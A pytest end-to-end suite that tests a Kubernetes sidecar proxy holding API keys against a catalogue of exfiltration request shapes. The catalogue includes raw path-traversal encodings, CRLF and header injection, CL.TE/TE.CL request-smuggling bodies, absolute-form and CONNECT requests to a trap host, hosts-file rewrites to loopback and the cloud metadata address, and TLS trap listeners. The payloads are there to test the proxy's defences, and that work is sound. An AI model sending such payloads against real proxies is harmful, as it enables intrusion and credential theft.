"""The exfiltration catalogue: request shapes that try to move the key to another host or path.

Each shape is sent as raw bytes over a socket (so malformed ones arrive
exactly as written) by a caller holding a *valid* token: the attacker here is
a compromised agent, which has its token. None may succeed:

- ``refused``: a 4xx answer, and the upstream records nothing;
- ``contained``: the request may be served, but the upstream records only
  paths the policy allows, on its own host, and nothing else.

In both cases the trap (the attacker's host) sees no connection, the agent's
answer holds no form of the key, and the sidecar keeps running. Hostnames
that resolve to loopback or the pod's own IP are refused: through the
machine's own /etc/hosts (``localhost``, the hostname), and through a
rewritten hosts file seen by a sidecar in a private mount namespace.
"""

from __future__ import annotations

import base64
import contextlib
import os
import socket
import ssl
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from sidekey.core import certificates, contract
from sidekey.localcluster import podplayer
from sidekey.localcluster.cluster import free_port
from sidekey.localcluster.processes import Processes
from tests.attacks import world
from tests.attacks.world import World

pytestmark = pytest.mark.e2e

#: What the policy lets the openai route reach upstream (the base path is /v1).
ALLOWED_UPSTREAM = {"/v1/models", "/v1/stream", "/v1/slow", "/v1/redirect", "/v1/chat/completions"}


@dataclass(frozen=True)
class Shape:
    build: Callable[[World], bytes]
    expect: str  # "refused" or "contained"
    timeout: float = 5.0


def req(line: str, *headers: str, body: bytes = b"", token: bool = True, host: str | None = None) -> Callable[[World], bytes]:
    """A raw request: the request line and headers exactly as given, plus the valid token."""

    def build(w: World) -> bytes:
        fill = {"TRAP": str(w.trap.port), "UP": str(w.upstream.port)}
        parts = [line.format(**fill), f"Host: {(host or '127.0.0.1').format(**fill)}"]
        if token:
            parts.append(f"Authorization: Bearer {w.token}")
        parts.extend(h.format(**fill) for h in headers)
        parts.append("Connection: close")
        return ("\r\n".join(parts) + "\r\n\r\n").encode("latin-1") + body

    return build


def raw(template: bytes) -> Callable[[World], bytes]:
    def build(w: World) -> bytes:
        return (template.replace(b"{TOKEN}", w.token.encode()).replace(b"{TRAP}", str(w.trap.port).encode())
                .replace(b"{UP}", str(w.upstream.port).encode()))

    return build


SMUGGLED = b"GET /v1/admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
CL_TE_BODY = b"0\r\n\r\n" + SMUGGLED
TE_CL_BODY = b"5\r\nhello\r\n0\r\n\r\n" + SMUGGLED


def _smuggle(te: bytes, body: bytes, cl: int | None = None) -> Callable[[World], bytes]:
    length = b"" if cl is None else b"Content-Length: %d\r\n" % cl
    return raw(b"POST /openai/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n"
               + length + te + b"Content-Type: application/json\r\n\r\n" + body)


CATALOGUE: dict[str, Shape] = {
    # --- dot segments and encodings
    "dotdot": Shape(req("GET /openai/../admin HTTP/1.1"), "refused"),
    "dotdot-after-an-allowed-path": Shape(req("GET /openai/models/../../admin HTTP/1.1"), "refused"),
    "dot-segment": Shape(req("GET /openai/./models/../admin HTTP/1.1"), "refused"),
    "percent-dotdot-lower": Shape(req("GET /openai/%2e%2e/admin HTTP/1.1"), "refused"),
    "percent-dotdot-upper": Shape(req("GET /openai/%2E%2E/admin HTTP/1.1"), "refused"),
    "half-encoded-dotdot": Shape(req("GET /openai/.%2e/admin HTTP/1.1"), "refused"),
    "percent-slash": Shape(req("GET /openai/models%2f..%2f..%2fadmin HTTP/1.1"), "refused"),
    "double-encoded-dotdot": Shape(req("GET /openai/%252e%252e/admin HTTP/1.1"), "refused"),
    "double-encoded-slash": Shape(req("GET /openai/models%252f..%252fadmin HTTP/1.1"), "refused"),
    "raw-backslashes": Shape(req("GET /openai/models\\..\\admin HTTP/1.1"), "refused"),
    "encoded-backslash": Shape(req("GET /openai/..%5cadmin HTTP/1.1"), "refused"),
    "overlong-utf8-dots": Shape(req("GET /openai/%c0%ae%c0%ae/admin HTTP/1.1"), "refused"),
    "fullwidth-dots": Shape(req("GET /openai/%ef%bc%8e%ef%bc%8e/admin HTTP/1.1"), "refused"),
    "dotdot-with-matrix-param": Shape(req("GET /openai/..;/admin HTTP/1.1"), "refused"),
    # segments of only dots and blanks under a rule that allows any one segment (/leak/*): an
    # upstream that trims blanks, or reads any run of dots as "up", climbs out of /leak
    "triple-dot-under-a-star": Shape(req("GET /bearer-leak/leak/... HTTP/1.1"), "refused"),
    "dotdot-space-under-a-star": Shape(req("GET /bearer-leak/leak/..%20 HTTP/1.1"), "refused"),
    "space-dotdot-under-a-star": Shape(req("GET /bearer-leak/leak/%20.. HTTP/1.1"), "refused"),
    "dotdot-no-break-space-under-a-star": Shape(req("GET /bearer-leak/leak/..%C2%A0 HTTP/1.1"), "refused"),
    "dotdot-ideographic-space-under-a-star": Shape(req("GET /bearer-leak/leak/..%E3%80%80 HTTP/1.1"), "refused"),
    "dotdot-zero-width-space-under-a-star": Shape(req("GET /bearer-leak/leak/..%E2%80%8B HTTP/1.1"), "refused"),
    "empty-segment": Shape(req("GET /openai//admin HTTP/1.1"), "refused"),
    "nul-byte": Shape(req("GET /openai/models%00/../admin HTTP/1.1"), "refused"),
    "fragment": Shape(req("GET /openai/models#/../admin HTTP/1.1"), "refused"),
    # --- other hosts in the target
    "double-slash-host": Shape(req("GET //127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
    "double-slash-route": Shape(req("GET //openai/models HTTP/1.1"), "refused"),
    "absolute-form-to-the-trap": Shape(req("GET http://127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
    "absolute-form-https": Shape(req("GET https://127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
    "absolute-form-to-the-upstream": Shape(req("GET http://127.0.0.1:{UP}/v1/admin HTTP/1.1"), "refused"),
    "absolute-form-http10": Shape(req("GET http://127.0.0.1:{TRAP}/openai/models HTTP/1.0"), "refused"),
    "userinfo-in-the-route": Shape(req("GET /openai@127.0.0.1:{TRAP}/models HTTP/1.1"), "refused"),
    "userinfo-in-the-path": Shape(req("GET /openai/models@127.0.0.1:{TRAP} HTTP/1.1"), "refused"),
    # --- headers naming another host or path
    "host-header-of-the-trap": Shape(req("GET /openai/models HTTP/1.1", host="127.0.0.1:{TRAP}"), "contained"),
    "x-forwarded-host": Shape(req("GET /openai/models HTTP/1.1", "X-Forwarded-Host: 127.0.0.1:{TRAP}",
                                  "X-Forwarded-Proto: http"), "contained"),
    "forwarded-header": Shape(req("GET /openai/models HTTP/1.1", "Forwarded: host=127.0.0.1:{TRAP}"), "contained"),
    "duplicate-host-headers": Shape(req("GET /openai/models HTTP/1.1", "Host: 127.0.0.1:{TRAP}"), "refused"),
    "x-original-url": Shape(req("GET /openai/models HTTP/1.1", "X-Original-URL: /v1/admin",
                                "X-Rewrite-URL: /v1/admin"), "contained"),
    "method-override-header": Shape(req("GET /openai/models HTTP/1.1", "X-HTTP-Method-Override: DELETE",
                                        "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"), "contained"),
    # --- CRLF and control characters
    "encoded-crlf-in-the-path": Shape(req("GET /openai/models%0d%0aHost:%20127.0.0.1:{TRAP} HTTP/1.1"), "refused"),
    "raw-crlf-in-the-request-line": Shape(raw(
        b"GET /openai/models\r\nHost: 127.0.0.1:{TRAP} HTTP/1.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"),
        "contained"),  # read as HTTP/0.9 plus headers: still only the policy's host and path
    "bare-cr-in-a-header": Shape(raw(
        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\rHost: 127.0.0.1:{TRAP}\r\n"
        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "refused"),
    "bare-lf-in-a-header": Shape(raw(
        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\nX-Forwarded-Host: 127.0.0.1:{TRAP}\r\n"
        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "refused"),
    "obs-fold-header": Shape(raw(
        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\r\n Host: 127.0.0.1:{TRAP}\r\n"
        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "refused"),
    "crlf-in-the-query": Shape(req("GET /openai/models?x=%0d%0aX-Injected:%201 HTTP/1.1"), "refused"),
    # --- CONNECT, Expect
    "connect-to-the-trap": Shape(req("CONNECT 127.0.0.1:{TRAP} HTTP/1.1", host="127.0.0.1:{TRAP}"), "refused"),
    "connect-to-the-upstream": Shape(req("CONNECT 127.0.0.1:{UP} HTTP/1.1", host="127.0.0.1:{UP}"), "refused"),
    "expect-continue-on-a-denied-path": Shape(req(
        "POST /openai/admin HTTP/1.1", "Expect: 100-continue", "Content-Length: 5"), "refused", timeout=2),
    "expect-continue-without-a-token": Shape(req(
        "POST /openai/chat/completions HTTP/1.1", "Expect: 100-continue", "Content-Length: 5", token=False),
        "refused", timeout=2),
    "expect-continue-then-smuggled-body": Shape(req(
        "POST /openai/chat/completions HTTP/1.1", "Expect: 100-continue",
        f"Content-Length: {len(SMUGGLED)}", body=SMUGGLED), "contained"),
    # --- request smuggling
    "cl-te-smuggling": Shape(_smuggle(b"Transfer-Encoding: chunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
                             "refused", timeout=3),
    "te-cl-smuggling": Shape(_smuggle(b"Transfer-Encoding: chunked\r\n", TE_CL_BODY, cl=4), "refused",
                             timeout=3),
    "te-obfuscated-xchunked": Shape(_smuggle(b"Transfer-Encoding: xchunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
                                    "refused", timeout=3),
    "te-space-before-colon": Shape(_smuggle(b"Transfer-Encoding : chunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
                                   "refused", timeout=3),
    "te-chunked-identity": Shape(_smuggle(b"Transfer-Encoding: chunked, identity\r\n", CL_TE_BODY,
                                          cl=len(CL_TE_BODY)), "refused", timeout=3),
    "duplicate-content-lengths": Shape(_smuggle(b"Content-Length: 0\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
                                       "refused", timeout=3),
    "pipelined-second-request-without-token": Shape(raw(
        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"
        b"GET /openai/admin HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"), "contained"),
    # --- protocol switches: a tunnel past the checks would carry the key for any request
    "h2c-upgrade": Shape(req("GET /openai/models HTTP/1.1", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                             "X-Conn: x"), "contained"),
    "websocket-upgrade": Shape(req("GET /openai/models HTTP/1.1", "Upgrade: websocket",
                                   "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"),
                               "contained"),
    "http2-prior-knowledge-preface": Shape(raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "refused", timeout=2),
    "very-long-target": Shape(req("GET /openai/models/" + "a" * 70_000 + " HTTP/1.1"), "refused"),
    "lowercase-method": Shape(req("get /openai/admin HTTP/1.1"), "refused"),
    "asterisk-form": Shape(req("OPTIONS * HTTP/1.1"), "refused"),
    # --- methods and routes
    "method-not-allowed": Shape(req("DELETE /openai/models HTTP/1.1"), "refused"),
    "trace-method": Shape(req("TRACE /openai/models HTTP/1.1"), "refused"),
    "route-in-capitals": Shape(req("GET /OPENAI/models HTTP/1.1"), "refused"),
    "unknown-route": Shape(req("GET /admin/models HTTP/1.1"), "refused"),
    # --- an upstream redirect to another host is passed back, never followed
    "upstream-redirect-to-the-trap": Shape(req("GET /openai/redirect HTTP/1.1"), "contained"),
}


def forms_of_every_key() -> set[bytes]:
    found: set[bytes] = set()
    for value in world.KEYS.values():
        if len(value) < 12:
            continue
        found |= {value.encode(), urllib.parse.quote(value, safe="").encode(),
                  urllib.parse.quote_plus(value).encode(), base64.b64encode(value.encode()).rstrip(b"=")}
    return found


def test_the_catalogue_has_at_least_30_shapes() -> None:
    assert len(CATALOGUE) + len(world.HOSTS_TO_LOOPBACK) + len(REWRITTEN_HOSTS) >= 30


@pytest.mark.parametrize("case", list(CATALOGUE))
def test_a_request_shape_cannot_move_the_key(fresh: World, case: str) -> None:
    w, shape = fresh, CATALOGUE[case]
    before = len(w.upstream.seen)
    answer = world.raw_request(w.sidecar.port, shape.build(w), timeout=shape.timeout)
    new = w.upstream.seen[before:]
    if shape.expect == "refused":
        assert 400 <= answer.status < 500 or (answer.status == 0 and not answer.raw), (case, answer.raw[:400])
        assert new == [], (case, [s.raw_path for s in new])
        assert b"100 Continue" not in answer.head, "the body was invited for a refused request"
    else:
        for s in new:
            assert s.raw_path.split("?", 1)[0] in ALLOWED_UPSTREAM, (case, s.raw_path)
            assert s.host == f"127.0.0.1:{w.upstream.port}", (case, s.host)
            lowered = {k.lower(): v for k, v in s.headers.items()}
            for header in ("x-http-method-override", "x-http-method", "x-method-override",
                           "x-original-url", "x-rewrite-url", "upgrade"):
                assert header not in lowered, f"{case}: {header} reached the upstream, which may honour it"
            assert s.method in ("GET", "POST"), (case, s.method)
    for form in forms_of_every_key():
        assert form not in answer.raw, f"{case}: a form of the key came back to the agent"
    assert w.sidecar.process.poll() is None


# --- hostnames that resolve to the pod itself -------------------------------------------------


#: Spellings of loopback that never get a connection at all: the resolver fails closed. (127.1 and
#: 2130706433 are not IP literals to the sidecar: they go to the resolver, which maps them to loopback.)
FAILS_CLOSED = {"via-localhost-dot": "does not resolve"}


@pytest.mark.parametrize("upstream", list(world.HOSTS_TO_LOOPBACK))
def test_a_policy_hostname_the_system_resolver_maps_to_loopback_is_refused(fresh: World, upstream: str) -> None:
    w = fresh
    before = len(w.upstream.seen)
    answer = w.request(f"/{upstream}/models", w.token)
    assert answer.status == 502, answer.raw[:400]
    message = answer.json()["error"]["message"]
    if upstream in FAILS_CLOSED:
        assert FAILS_CLOSED[upstream] in message, message
    else:
        assert "loopback" in message and "refused" in message, message
    assert w.upstream.seen[before:] == [], "the key reached an upstream on this host through a name"


#: The pod's second address in a dual-stack cluster (``status.podIPs``).
POD_IPV6 = "fd00:10:244::7"
#: A hosts file an agent could write into the pod's shared /etc/hosts.
REWRITTEN_HOSTS = {
    "to-the-pod-ip": world.POD_IP,
    "to-the-pods-other-address": POD_IPV6,
    "to-loopback-alias": "127.0.0.2",
    "to-link-local-metadata": "169.254.169.254",
    "to-ipv6-loopback": "::1",
    "to-ipv4-mapped-loopback": "::ffff:127.0.0.1",
}


@pytest.fixture(scope="module")
def rewritten(cluster: Any, attack_world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[world.SubjectSidecar]:
    """A second sidecar of the same pod whose /etc/hosts names upstream hosts after local addresses."""
    w = attack_world
    directory = tmp_path_factory.mktemp("rewritten-hosts")
    hosts = directory / "hosts"
    hosts.write_text(Path("/etc/hosts").read_text() + "".join(
        f"{ip} {name}.upstream.test\n" for name, ip in REWRITTEN_HOSTS.items()))
    upstreams = world.upstream_specs(w.upstream.url) + [
        {"name": name, "url": f"http://{name}.upstream.test:{w.upstream.port}/v1", "insecure": True,
         "auth": {"type": "bearer", "secretRef": {"name": world.SECRET_NAME, "key": "openai"}},
         "allow": [{"methods": ["GET"], "paths": ["/models"]}]} for name in REWRITTEN_HOSTS]
    world.apply(cluster, world.policy_manifest(w.namespace, upstreams, name="rewritten-hosts"))
    sc = _launch_dual_stack(cluster, w.namespace, w.pod_uid, directory, hosts)
    try:
        yield sc
    finally:
        sc.stop()
        cluster.kubectl("delete", "agentpolicy", "rewritten-hosts", "-n", w.namespace, "--ignore-not-found")


def _launch_dual_stack(cluster: Any, namespace: str, pod_uid: str, workdir: Path, hosts: Path) -> world.SubjectSidecar:
    """``world.launch`` for a dual-stack pod: the downward API gives ``POD_IPS`` both addresses."""
    pod = podplayer.PodIdentity(namespace, world.POD, pod_uid, world.SA, world.POD_IP)
    procs = Processes(workdir / "logs")
    prefix = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
              'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts)]
    env = {contract.ENV_AUDIENCE: contract.DEFAULT_AUDIENCE, contract.ENV_POD_IPS: f"{world.POD_IP},{POD_IPV6}"}
    try:
        running = podplayer.start_sidecar(cluster, pod, procs, workdir, name="proxy", prefix=prefix, env=env)
    except (TimeoutError, RuntimeError) as exc:
        procs.stop_all()
        raise AssertionError(f"the sidecar did not become ready: {exc}") from None
    return world.SubjectSidecar(cluster, namespace, pod_uid, running, workdir, podplayer.mint_agent_token(cluster, pod), procs)


@pytest.mark.parametrize("name", list(REWRITTEN_HOSTS))
def test_a_policy_hostname_rewritten_in_the_pods_hosts_file_is_refused(
        fresh: World, rewritten: world.SubjectSidecar, name: str) -> None:
    w = fresh
    before = len(w.upstream.seen)
    answer: world.Response | None = None

    def routed() -> bool:  # the second policy reaches this sidecar by watch
        nonlocal answer
        answer = world.get(rewritten.port, f"/{name}/models", rewritten.agent_token)
        return answer.status != 404

    world.wait_until(routed, 10, "the rewritten-hosts policy to be routed")
    assert answer is not None and answer.status == 502, answer.raw[:400] if answer else None
    message = answer.json()["error"]["message"]
    assert "refused" in message and f"{name}.upstream.test" in message, message
    assert w.upstream.seen[before:] == []
    world.wait_until(lambda: any(a.get("reason") == "host_refused" and a.get("upstream") == name
                                 for a in rewritten.audit()), 5, "the audit line (flushed every second)")


# --- TLS peers the sidecar must verify -------------------------------------------------------


class TlsTrap:
    """The attacker's https host: a TLS listener on loopback with a certificate from ``ca``.

    It records what it decrypts; a client that verifies the certificate against the
    right CA refuses the handshake, so nothing is recorded.
    """

    def __init__(self, ca: certificates.KeyPair, directory: Path) -> None:
        leaf = certificates.issue(ca, "attacker.example", ip_addresses=["127.0.0.1"])
        (directory / "trap.pem").write_bytes(leaf.cert_pem + leaf.key_pem)
        self._context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self._context.load_cert_chain(directory / "trap.pem")
        self.received: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self.port: int = self._listener.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
            except (TimeoutError, OSError):
                continue
            with contextlib.suppress(OSError), self._context.wrap_socket(conn, server_side=True) as tls:
                tls.settimeout(1)
                self.received.append(tls.recv(65536))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self._listener.close()


def test_a_sidecar_without_the_mounted_cluster_ca_never_sends_its_api_token(tmp_path: Path) -> None:
    """A look-alike spec points ``KUBERNETES_SERVICE_HOST`` at a host with a publicly trusted
    certificate and drops the ``kube-root-ca.crt`` source from the API token's volume.

    ``SSL_CERT_FILE`` stands for the image's system store here: it trusts the attacker's CA, as
    the real store trusts any public CA. The sidecar must refuse to start rather than verify the
    apiserver against that store, and the attacker's TLS listener must never see the token.
    """
    public_ca = certificates.make_ca("a public CA")
    (tmp_path / "system-store.pem").write_bytes(public_ca.cert_pem)
    api_dir = tmp_path / "api"
    api_dir.mkdir()
    api_token = "api-token-CANARY-reads-the-secret"
    (api_dir / contract.API_TOKEN_FILENAME).write_text(api_token)  # no ca.crt next to it
    trap = TlsTrap(public_ca, tmp_path)
    env = {
        "PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"),
        "SSL_CERT_FILE": str(tmp_path / "system-store.pem"),
        "KUBERNETES_SERVICE_HOST": "127.0.0.1", "KUBERNETES_SERVICE_PORT": str(trap.port),
        contract.ENV_POD_NAME: world.POD, contract.ENV_POD_NAMESPACE: "team", contract.ENV_POD_UID: "uid-1",
        contract.ENV_POD_IP: world.POD_IP, contract.ENV_SERVICE_ACCOUNT: world.SA,
        contract.ENV_PROXY_PORT: str(free_port()), contract.ENV_HEALTH_PORT: str(free_port()),
        contract.ENV_HEALTH_ADDRESS: "127.0.0.1", contract.ENV_API_TOKEN_DIR: str(api_dir),
    }
    proc = subprocess.Popen([sys.executable, "-m", "sidekey", "proxy"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        out, _ = proc.communicate(timeout=20)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, _ = proc.communicate()
    finally:
        trap.close()
    assert not any(api_token.encode() in r for r in trap.received), "the API token reached the attacker's host"
    assert trap.received == [], "the sidecar connected to the apiserver address without the cluster CA"
    assert proc.returncode == 2, out.decode(errors="replace")[-2000:]
    assert b"no cluster CA at" in out, out.decode(errors="replace")[-2000:]


def test_an_insecure_upstreams_oauth2_token_url_is_still_verified(
        fresh: World, cluster: Any, tmp_path: Path) -> None:
    """An http upstream (``insecure: true``) with an https token URL on an unverified host.

    The token fetch borrowed the upstream's TLS setting, which for plain http is "none":
    the client secret went to whoever answered the token URL. The token URL has its own
    verification (the system store here, which does not know the trap's CA).
    """
    w = fresh
    trap = TlsTrap(certificates.make_ca("nobody's CA"), tmp_path)
    name = "oauth-unverified"
    upstream = {"name": name, "url": w.upstream.url, "insecure": True,
                "auth": {"type": "oauth2ClientCredentials", "secretRef": {"name": world.SECRET_NAME},
                         "oauth2ClientCredentials": {"tokenURL": f"https://127.0.0.1:{trap.port}/oauth/token",
                                                     "clientIdKey": "client_id", "clientSecretKey": "client_secret"}},
                "allow": [{"methods": ["GET"], "paths": ["/leak/*"]}]}
    world.apply(cluster, world.policy_manifest(w.namespace, [upstream], name=name))
    before = len(w.upstream.seen)
    answer: world.Response | None = None

    def routed() -> bool:  # the policy reaches the sidecar by watch
        nonlocal answer
        answer = w.request(f"/{name}/leak/x", w.token)
        return answer.status != 404

    try:
        world.wait_until(routed, 15, "the oauth-unverified policy to be routed")
    finally:
        trap.close()
        cluster.kubectl("delete", "agentpolicy", name, "-n", w.namespace, "--ignore-not-found")
    basic = base64.b64encode(f"{world.KEYS['client_id']}:{urllib.parse.quote_plus(world.KEYS['client_secret'])}"
                             .encode())
    assert not any(basic in r or world.KEYS["client_secret"].encode() in r for r in trap.received), \
        "the client secret reached an unverified token URL"
    assert trap.received == [], "the sidecar completed a TLS handshake with a token URL it cannot verify"
    assert answer is not None and answer.status == 502, answer.raw[:400] if answer else None
    assert w.upstream.seen[before:] == []


def test_an_oauth2_token_url_is_trusted_through_its_own_ca_bundle(
        fresh: World, cluster: Any, tmp_path: Path) -> None:
    """The control of the case above: the same upstream, with the token URL's CA in
    ``oauth2ClientCredentials.caBundle`` (through the real CRD), does reach it."""
    w = fresh
    ca = certificates.make_ca("the IdP's private CA")
    trap = TlsTrap(ca, tmp_path)
    name = "oauth-own-bundle"
    upstream = {"name": name, "url": w.upstream.url, "insecure": True,
                "auth": {"type": "oauth2ClientCredentials", "secretRef": {"name": world.SECRET_NAME},
                         "oauth2ClientCredentials": {"tokenURL": f"https://127.0.0.1:{trap.port}/oauth/token",
                                                     "clientIdKey": "client_id", "clientSecretKey": "client_secret",
                                                     "caBundle": ca.cert_pem.decode()}},
                "allow": [{"methods": ["GET"], "paths": ["/leak/*"]}]}
    world.apply(cluster, world.policy_manifest(w.namespace, [upstream], name=name))

    def fetched() -> bool:  # the policy reaches the sidecar by watch, then the token is fetched
        w.request(f"/{name}/leak/x", w.token)
        return any(r.startswith(b"POST /oauth/token") for r in trap.received)

    try:
        world.wait_until(fetched, 15, "the token request through the policy's own CA bundle")
    finally:
        trap.close()
        cluster.kubectl("delete", "agentpolicy", name, "-n", w.namespace, "--ignore-not-found")
